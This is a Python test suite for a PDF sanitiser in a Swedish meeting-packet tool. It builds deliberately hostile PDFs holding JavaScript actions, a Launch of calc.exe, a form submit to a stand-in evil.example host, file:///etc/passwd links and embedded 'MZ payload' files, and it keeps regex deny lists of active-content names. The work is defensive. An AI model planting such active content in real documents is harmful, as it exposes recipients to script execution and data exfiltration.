"""Active content in received bilagor: removed on the way in, refused on the way out.

The hostile PDFs are built here with pikepdf: JavaScript in the name tree,
in /OpenAction, in page and field additional actions, in links and
bookmarks and chained with /Next; Launch, SubmitForm, GoToR, Sound,
file: and javascript: links; an attached file, embedded files and an XFA
form. What must survive: web and e-mail links, internal links, bookmarks,
the page text and a form field's appearance.

The checks do not trust the module under test: every object of the result
is written out uncompressed (qpdf's QDF form) and searched for the names
and strings that make up active content, and the result is read back with
pypdf as well.
"""

from __future__ import annotations

import hashlib
import io
import re
import shutil
import subprocess
from pathlib import Path

import docx
import pikepdf
import pytest
from docx.enum.style import WD_STYLE_TYPE
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from hypothesis import given
from hypothesis import strategies as st
from pikepdf import Array, Dictionary, Name, String
from pypdf import PdfReader

from meetingdocs import packet
from meetingdocs.errors import OutputInvalidError, SourceError
from meetingdocs.pdf import assemble, sanitize
from meetingdocs.pdf.sanitize import Kind
from meetingdocs.sources import load_meeting

from conftest import ACCESSIBILITY_ADVICE, DEMO, REPO, run_build

PAGE_TEXTS = ("Budget 2021 for namnden", "Sida tva med tabeller")
WEB_LINK = "https://example.org/"
MAIL_LINK = "mailto:sekreterare@example.org"

# Names that only active content uses, as written in an uncompressed PDF.
# (/Next is left out: bookmarks use it for their siblings; see no_chained_actions.)
ACTIVE_NAMES = re.compile(
    rb"/(JS|JavaScript|AA|OpenAction|Launch|SubmitForm|ResetForm|ImportData|GoToR|GoToE|EmbeddedFiles|EF|"
    rb"FileAttachment|XFA|Sound|Movie|Rendition|RichMedia|RichMediaExecute|Screen|Hide|NeedsRendering)(?![\w.#-])"
)
# Strings the hostile parts carry: none of them may be left anywhere.
HOSTILE_STRINGS = (b"app.alert", b"javascript:", b"file:", b"calc.exe", b"other.pdf", b"evil.example",
                   b"MZ payload", b"<xdp:xdp", b"virus.txt")


# ------------------------------------------------------------ hostile PDFs


def js(code: str) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def uri(address: str, **more) -> Dictionary:
    return Dictionary(S=Name.URI, URI=String(address), **more)


def link(pdf: pikepdf.Pdf, y: int, **entries) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, y, 300, y + 20]),
                                        Border=Array([0, 0, 0]), **entries))


def text_pdf(texts=PAGE_TEXTS) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for text in texts:
        content = pdf.make_stream(f"BT /F1 18 Tf 72 720 Td ({text}) Tj ET".encode())
        pdf.pages.append(pikepdf.Page(Dictionary(Type=Name.Page, MediaBox=Array([0, 0, 595, 842]), Contents=content,
                                                 Resources=Dictionary(Font=Dictionary(F1=font)))))
    return pdf


def hostile_pdf(path: Path) -> Path:
    """Every kind of active content at once, beside the things that must stay."""
    pdf = text_pdf()
    first, second = pdf.pages[0], pdf.pages[1]
    root = pdf.Root
    root.OpenAction = js("app.alert('open')")
    root.AA = Dictionary(WC=js("app.alert('close')"))
    root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), pdf.make_indirect(js("app.alert(1)"))])))
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ payload", mime_type="application/x-msdownload")
    first.obj.AA = Dictionary(O=js("app.alert('page')"))
    root.AcroForm = Dictionary(Fields=Array([_submit_button(pdf)]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    attached, popup = _file_attachment(pdf)
    first.obj.Annots = Array([
        link(pdf, 600, A=uri(WEB_LINK, Next=js("app.alert('chained')"))),
        link(pdf, 570, A=uri(MAIL_LINK)),
        link(pdf, 540, Dest=Array([second.obj, Name.Fit])),
        link(pdf, 510, A=Dictionary(S=Name.GoTo, D=Array([second.obj, Name.Fit]))),
        link(pdf, 480, A=js("app.alert('link')")),
        link(pdf, 450, A=Dictionary(S=Name.Launch, F=String("calc.exe"))),
        link(pdf, 420, A=uri("javascript:app.alert(2)")),
        link(pdf, 390, A=uri("file:///etc/passwd")),
        link(pdf, 360, A=Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit]))),
        link(pdf, 330, A=Dictionary(S=Name.Sound, Sound=pdf.make_stream(b"\0\0", Type=Name.Sound, R=8000))),
        attached, popup, root.AcroForm.Fields[0],
    ])
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Sida 2", 1))
        outline.root.append(pikepdf.OutlineItem("Elak", action=js("app.alert('bookmark')")))
    pdf.save(path)
    return path


def _submit_button(pdf: pikepdf.Pdf) -> pikepdf.Object:
    appearance = pdf.make_stream(b"0 0 1 rg 0 0 100 20 re f", Type=Name.XObject, Subtype=Name.Form,
                                 BBox=Array([0, 0, 100, 20]))
    return pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, Ff=65536, T=String("skicka"),
        Rect=Array([72, 100, 172, 120]), AP=Dictionary(N=appearance),
        A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect")),
        AA=Dictionary(K=js("app.alert('field')")),
    ))


def _file_attachment(pdf: pikepdf.Pdf) -> tuple[pikepdf.Object, pikepdf.Object]:
    spec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("virus.txt"),
                                        EF=Dictionary(F=pdf.make_stream(b"MZ payload", Type=Name.EmbeddedFile))))
    annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment,
                                         Rect=Array([500, 500, 520, 520]), FS=spec))
    popup = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Popup, Rect=Array([500, 400, 580, 480]),
                                         Parent=annot))
    annot.Popup = popup
    return annot, popup


# ------------------------------------------------------------ independent checks


def every_object(path: Path) -> bytes:
    """All objects of the PDF, uncompressed and in plain text (QDF)."""
    buffer = io.BytesIO()
    with pikepdf.open(path) as pdf:
        pdf.save(buffer, qdf=True, object_stream_mode=pikepdf.ObjectStreamMode.disable,
                 stream_decode_level=pikepdf.StreamDecodeLevel.generalized)
    return buffer.getvalue()


def active_leftovers(path: Path) -> list[bytes]:
    raw = every_object(path)
    return [m.group(0) for m in ACTIVE_NAMES.finditer(raw)] + [s for s in HOSTILE_STRINGS if s in raw]


def chained_actions(path: Path) -> list[str]:
    """Actions (dictionaries with /S) that chain another with /Next, direct ones included."""
    found = []
    with pikepdf.open(path) as pdf:
        stack = list(pdf.objects)
        while stack:
            obj = stack.pop()
            if isinstance(obj, (pikepdf.Dictionary, pikepdf.Array)):
                children = list(obj.values()) if isinstance(obj, pikepdf.Dictionary) else list(obj)
                stack += [child for child in children if isinstance(child, pikepdf.Object) and not child.is_indirect]
            if isinstance(obj, pikepdf.Dictionary) and "/S" in obj and "/Next" in obj:
                found.append(repr(obj))
    return found


def link_targets(path: Path) -> list[str]:
    """Every link annotation's target as pypdf sees it: a URI, 'page N' or the action's type."""
    reader = PdfReader(path)
    return [_target(reader, ref.get_object()) for page in reader.pages for ref in page.get("/Annots", [])
            if ref.get_object()["/Subtype"] == "/Link"]


def _target(reader: PdfReader, annot) -> str:
    action = annot["/A"] if "/A" in annot else None
    if action is not None and action["/S"] == "/URI":
        return str(action["/URI"])
    if "/Dest" in annot:
        dest = annot["/Dest"]
    elif action is not None and action["/S"] == "/GoTo":
        dest = action["/D"]
    else:
        return f"action {action['/S'] if action is not None else None}"
    return f"page {reader.get_page_number(dest[0].get_object()) + 1}"


def pdftotext(path: Path) -> str:
    return subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True,
                          check=True).stdout


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    return hostile_pdf(tmp_path / "fientlig.pdf")


@pytest.fixture
def cleaned(hostile: Path, tmp_path: Path) -> tuple[Path, list[sanitize.ActiveContent]]:
    out = tmp_path / "rensad.pdf"
    return out, sanitize.sanitize_pdf(hostile, out)


# ------------------------------------------------------------ the sanitiser


def test_the_fixture_is_hostile(hostile):
    """Guard for the tests below: the checks do see the active content."""
    assert len(active_leftovers(hostile)) > 20
    assert chained_actions(hostile)
    assert set(link_targets(hostile)) > {WEB_LINK, "javascript:app.alert(2)", "file:///etc/passwd"}


def test_no_active_content_is_left_in_any_object(cleaned):
    out, _ = cleaned
    assert active_leftovers(out) == []
    assert chained_actions(out) == []
    assert sanitize.find_active_content(out) == []


def test_pypdf_sees_no_javascript_open_action_attachments_or_xfa(cleaned):
    out, _ = cleaned
    reader = PdfReader(out)
    root = reader.trailer["/Root"]
    assert "/OpenAction" not in root and "/AA" not in root
    assert "/JavaScript" not in root.get("/Names", {}) and "/EmbeddedFiles" not in root.get("/Names", {})
    assert "/XFA" not in root["/AcroForm"]
    assert reader.attachments == {}
    annots = [ref.get_object() for ref in reader.pages[0]["/Annots"]]
    assert {a["/Subtype"] for a in annots} == {"/Link", "/Widget"}
    assert not any("/AA" in a for a in annots) and "/AA" not in reader.pages[0]


def test_web_mail_and_internal_links_stay(cleaned):
    out, _ = cleaned
    assert sorted(link_targets(out)) == sorted([WEB_LINK, MAIL_LINK, "page 2", "page 2"])


def test_bookmarks_and_form_field_appearance_stay(cleaned):
    out, _ = cleaned
    reader = PdfReader(out)
    assert [item.title for item in reader.outline] == ["Sida 2", "Elak"]
    assert reader.get_destination_page_number(reader.outline[0]) == 1
    button = reader.trailer["/Root"]["/AcroForm"]["/Fields"][0].get_object()
    assert button["/T"] == "skicka" and "/A" not in button
    assert button["/AP"]["/N"].get_object().get_data() == b"0 0 1 rg 0 0 100 20 re f"


@pytest.mark.poppler
def test_page_text_is_unchanged(hostile, cleaned):
    out, _ = cleaned
    assert pdftotext(out) == pdftotext(hostile)
    assert all(text in pdftotext(out) for text in PAGE_TEXTS)
    assert len(PdfReader(out).pages) == 2


def test_the_received_file_is_not_changed(tmp_path):
    hostile = hostile_pdf(tmp_path / "fientlig.pdf")
    before = digest(hostile)
    sanitize.sanitize_pdf(hostile, tmp_path / "rensad.pdf")
    assert digest(hostile) == before


def test_every_kind_removed_is_reported_in_swedish(cleaned):
    _, removed = cleaned
    assert {item.kind for item in removed} == set(Kind) - {Kind.OTHER_ACTIONS}
    text = sanitize.sentence(removed)
    assert text.startswith("JavaScript, en automatisk åtgärd vid öppning, automatiska åtgärder ")
    assert text.endswith(" inbäddade filer och ett XFA-formulär togs bort.")


def test_sentence_for_one_and_two_kinds():
    found = [sanitize.ActiveContent(Kind.EMBEDDED_FILES, "x"), sanitize.ActiveContent(Kind.EMBEDDED_FILES, "y")]
    assert sanitize.sentence(found) == "Inbäddade filer togs bort."
    found.append(sanitize.ActiveContent(Kind.JAVASCRIPT, "z"))
    assert sanitize.sentence(found) == "JavaScript och inbäddade filer togs bort."


def test_a_plain_pdf_comes_through_with_nothing_to_report(tmp_path):
    pdf = text_pdf()
    pdf.pages[0].obj.Annots = Array([link(pdf, 600, A=uri(WEB_LINK))])
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])  # open at page 1: harmless, not reported
    pdf.save(tmp_path / "vanlig.pdf")
    assert sanitize.sanitize_pdf(tmp_path / "vanlig.pdf", tmp_path / "ut.pdf") == []
    assert link_targets(tmp_path / "ut.pdf") == [WEB_LINK]


@pytest.mark.parametrize("address, stays", [
    ("https://example.org/a?b=c", True),
    ("HTTP://example.org", True),
    ("mailto:a@example.org", True),
    ("javascript:app.alert(1)", False),
    (" JavaScript:app.alert(1)", False),
    ("file:///C:/Windows/system32/calc.exe", False),
    ("\\\\server\\share\\x.docx", False),
    ("smb://server/share", False),
    ("rapport.pdf", False),
    ("data:text/html,<script>", False),
    (" https://example.org", False),  # a viewer may strip the space; we do not guess
])
def test_links_stay_only_for_web_and_mail_addresses(tmp_path, address, stays):
    pdf = text_pdf()
    pdf.pages[0].obj.Annots = Array([link(pdf, 600, A=uri(address))])
    pdf.save(tmp_path / "in.pdf")
    removed = sanitize.sanitize_pdf(tmp_path / "in.pdf", tmp_path / "ut.pdf")
    assert link_targets(tmp_path / "ut.pdf") == ([address] if stays else [])
    assert bool(removed) is not stays


def with_orphan(pdf_path: Path, action: bytes) -> Path:
    """Append an incremental update that adds an object nothing points to."""
    data = pdf_path.read_bytes()
    previous = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    number = int(re.findall(rb"/Size (\d+)", data)[-1])
    root = re.findall(rb"/Root (\d+ \d+ R)", data)[-1]
    offset = len(data)
    data += b"%d 0 obj\n%s\nendobj\n" % (number, action)
    xref = len(data)
    data += (b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
             % (number, offset, number + 1, root, previous, xref))
    pdf_path.write_bytes(data)
    return pdf_path


def test_the_scan_reads_objects_that_no_page_uses(tmp_path):
    """Every object in the file counts, not only those reachable from the catalog."""
    text_pdf().save(tmp_path / "orphan.pdf", object_stream_mode=pikepdf.ObjectStreamMode.disable)
    with_orphan(tmp_path / "orphan.pdf", b"<< /S /JavaScript /JS (app.alert('orphan')) >>")
    assert [item.kind for item in sanitize.find_active_content(tmp_path / "orphan.pdf")] == [Kind.JAVASCRIPT]
    assert sanitize.sanitize_pdf(tmp_path / "orphan.pdf", tmp_path / "ut.pdf")
    assert active_leftovers(tmp_path / "ut.pdf") == []


def test_refuse_active_content_names_the_document_and_what_is_in_it(hostile, cleaned):
    out, _ = cleaned
    sanitize.refuse_active_content(out, "Den färdiga kallelsen")
    with pytest.raises(OutputInvalidError) as caught:
        sanitize.refuse_active_content(hostile, "Den färdiga kallelsen")
    message = caught.value.message
    assert message.startswith("Den färdiga kallelsen innehåller aktivt innehåll som inte får finnas där: "
                              "JavaScript, en automatisk åtgärd vid öppning, ")
    assert "Inget publicerades" in message


def test_concatenation_alone_would_carry_active_content_into_the_packet(hostile, tmp_path):
    """Why the finished packet is scanned too: pypdf keeps page actions, attachments and forms."""
    joined = assemble.concatenate([hostile], tmp_path / "sammansatt.pdf")
    assert active_leftovers(joined)
    with pytest.raises(OutputInvalidError, match="JavaScript"):
        sanitize.refuse_active_content(joined, "Den färdiga kallelsen")


def test_an_unreadable_pdf_is_reported_as_such(tmp_path):
    (tmp_path / "trasig.pdf").write_bytes(b"%PDF-1.7\nnothing here")
    with pytest.raises(sanitize.UnreadablePdfError):
        sanitize.sanitize_pdf(tmp_path / "trasig.pdf", tmp_path / "ut.pdf")


def test_a_bilaga_that_cannot_be_checked_is_named_with_its_case_and_field(tmp_path):
    meeting, _ = load_meeting(REPO / "sources" / DEMO)
    item = next(item for item in meeting.cases if item.case.key == "revisionsrapport")
    attachment = item.case.attachments[0]
    (tmp_path / "trasig.pdf").write_bytes(b"%PDF-1.7\nnothing here")
    with pytest.raises(SourceError) as caught:
        packet.clean_received(item, attachment, tmp_path / "trasig.pdf", tmp_path / "mottagna" / "ut.pdf")
    problem, = caught.value.problems
    assert problem.file == item.case.source and problem.field == "bilagor[1].fil"
    assert problem.message.startswith(f"bilagan '{attachment.path.name}' går inte att öppna för kontroll av aktivt")
    assert "på nytt" in problem.message


# ------------------------------------------------------------ property: anywhere, any chain

BAD_ACTIONS = [
    lambda pdf: js("app.alert(3)"),
    lambda pdf: Dictionary(S=Name.Launch, F=String("calc.exe")),
    lambda pdf: Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")),
    lambda pdf: Dictionary(S=Name.ResetForm),
    lambda pdf: Dictionary(S=Name.ImportData, F=String("other.pdf")),
    lambda pdf: Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit])),
    lambda pdf: Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("virus.txt"))),
    lambda pdf: Dictionary(S=Name.Rendition, OP=0, JS=String("app.alert(4)")),
    lambda pdf: Dictionary(S=Name.Movie, T=String("film")),
    lambda pdf: Dictionary(S=Name.RichMediaExecute, TI=Dictionary()),
    lambda pdf: Dictionary(S=Name.Hide, T=String("x")),
    lambda pdf: Dictionary(S=Name.Named, N=Name.Print),
    lambda pdf: uri("javascript:app.alert(5)"),
    lambda pdf: uri("file:///etc/passwd"),
]
GOOD_ACTIONS = [
    lambda pdf: uri(WEB_LINK),
    lambda pdf: Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit])),
    lambda pdf: Dictionary(S=Name.Named, N=Name.NextPage),
]
PLACES = ["link", "page-aa", "document-aa", "open-action", "bookmark", "field", "name-tree"]


@st.composite
def actions(draw, depth=0):
    """An action, possibly with a chain of further actions under /Next."""
    maker = draw(st.sampled_from(BAD_ACTIONS + GOOD_ACTIONS))
    chain = draw(st.lists(actions(depth + 1), max_size=2)) if depth < 2 else []
    indirect = draw(st.booleans())
    return maker, chain, indirect


def build_action(pdf: pikepdf.Pdf, spec) -> pikepdf.Object:
    maker, chain, indirect = spec
    action = maker(pdf)
    if chain:
        built = [build_action(pdf, item) for item in chain]
        action.Next = built[0] if len(built) == 1 else Array(built)
    return pdf.make_indirect(action) if indirect else action


def place(pdf: pikepdf.Pdf, where: str, action: pikepdf.Object) -> None:
    page = pdf.pages[0].obj
    if where == "link":
        page.Annots = Array(list(page.get("/Annots", [])) + [link(pdf, 600, A=action)])
    elif where == "page-aa":
        page.AA = Dictionary(O=action)
    elif where == "document-aa":
        pdf.Root.AA = Dictionary(DP=action)
    elif where == "open-action":
        pdf.Root.OpenAction = action
    elif where == "bookmark":
        with pdf.open_outline() as outline:
            outline.root.append(pikepdf.OutlineItem("Bokmärke", action=action))
    elif where == "field":
        widget = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, Ff=65536,
                                              T=String("knapp"), Rect=Array([72, 100, 172, 120]), A=action))
        form = pdf.Root.get("/AcroForm") or Dictionary(Fields=Array())
        form.Fields.append(widget)
        pdf.Root.AcroForm = form
        page.Annots = Array(list(page.get("/Annots", [])) + [widget])
    else:
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), action])))


@pytest.mark.fuzz
@given(placed=st.lists(st.tuples(st.sampled_from(PLACES), actions()), min_size=1, max_size=4))
def test_no_action_survives_that_is_not_a_plain_link(tmp_path_factory, placed):
    folder = tmp_path_factory.mktemp("fuzz")
    pdf = text_pdf()
    for where, spec in placed:
        place(pdf, where, build_action(pdf, spec))
    pdf.save(folder / "in.pdf")
    sanitize.sanitize_pdf(folder / "in.pdf", folder / "ut.pdf")
    assert active_leftovers(folder / "ut.pdf") == []
    assert chained_actions(folder / "ut.pdf") == []
    assert len(PdfReader(folder / "ut.pdf").pages) == 2
    shutil.rmtree(folder)


# ------------------------------------------------------------ through the command line


def links_docx(path: Path) -> Path:
    """A received Word file with links to a local file, to JavaScript and to the web."""
    document = docx.Document()
    document.styles.add_style("Hyperlink", WD_STYLE_TYPE.CHARACTER)
    paragraph = document.add_paragraph("Länkar i en mottagen Word-fil: ")
    links = {"lista": "file:///C:/hemligt/lista.xlsx", "skript": "javascript:app.alert(6)",
             "webbsidan": "https://example.org/word"}
    for label, address in links.items():
        r_id = paragraph.part.relate_to(address, RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
        hyperlink = OxmlElement("w:hyperlink", attrs={qn("r:id"): r_id})
        run = OxmlElement("w:r")
        properties = OxmlElement("w:rPr")
        properties.append(OxmlElement("w:rStyle", attrs={qn("w:val"): "Hyperlink"}))
        run.append(properties)
        text = OxmlElement("w:t")
        text.text = f" {label} "
        text.set(qn("xml:space"), "preserve")
        run.append(text)
        hyperlink.append(run)
        paragraph._p.append(hyperlink)
    document.save(path)
    return path


def add_bilagor(case: Path, entries: list[tuple[str, str]]) -> None:
    """Append bilagor to the tjänsteskrivelse's front matter, as the secretary would."""
    text = case.read_text(encoding="utf-8")
    head, end, body = text.partition("\n---\n")
    lines = "".join(f"\n  - fil: {name}\n    titel: {title}" for name, title in entries)
    case.write_text(head + lines + end + body, encoding="utf-8")


@pytest.mark.libreoffice
@pytest.mark.poppler
def test_packet_with_hostile_bilagor_warns_and_publishes_a_clean_packet(sources, tmp_path):
    case = sources / DEMO / "revisionsrapport"
    hostile = hostile_pdf(case / "fientlig.pdf")
    word = links_docx(case / "lankar.docx")
    originals = {path: digest(path) for path in (hostile, word)}
    add_bilagor(case / "tjansteskrivelse.md", [("fientlig.pdf", "Budget med aktivt innehåll"),
                                               ("lankar.docx", "Länkar")])
    result = run_build("packet", DEMO, sources=sources, out=tmp_path / "packets")
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    warnings = [line for line in result.stderr.splitlines()
                if line.startswith("Varning: Bilaga") and ACCESSIBILITY_ADVICE not in line]
    assert warnings == [
        "Varning: Bilaga 2 till ärende 5 (fil fientlig.pdf): " + sanitize.sentence(
            [sanitize.ActiveContent(kind, "") for kind in Kind if kind is not Kind.OTHER_ACTIONS]),
        "Varning: Bilaga 3 till ärende 5 (fil lankar.docx): "
        "JavaScript och länkar som inte går till en webbsida eller e-postadress togs bort.",
    ]
    kallelse = tmp_path / "packets" / DEMO / "kallelse.pdf"
    assert active_leftovers(kallelse) == [] and chained_actions(kallelse) == []
    assert sanitize.find_active_content(kallelse) == []
    assert {WEB_LINK, MAIL_LINK, "https://example.org/word"} <= set(link_targets(kallelse))
    assert "Budget 2021 for namnden" in pdftotext(kallelse)
    assert {path: digest(path) for path in originals} == originals
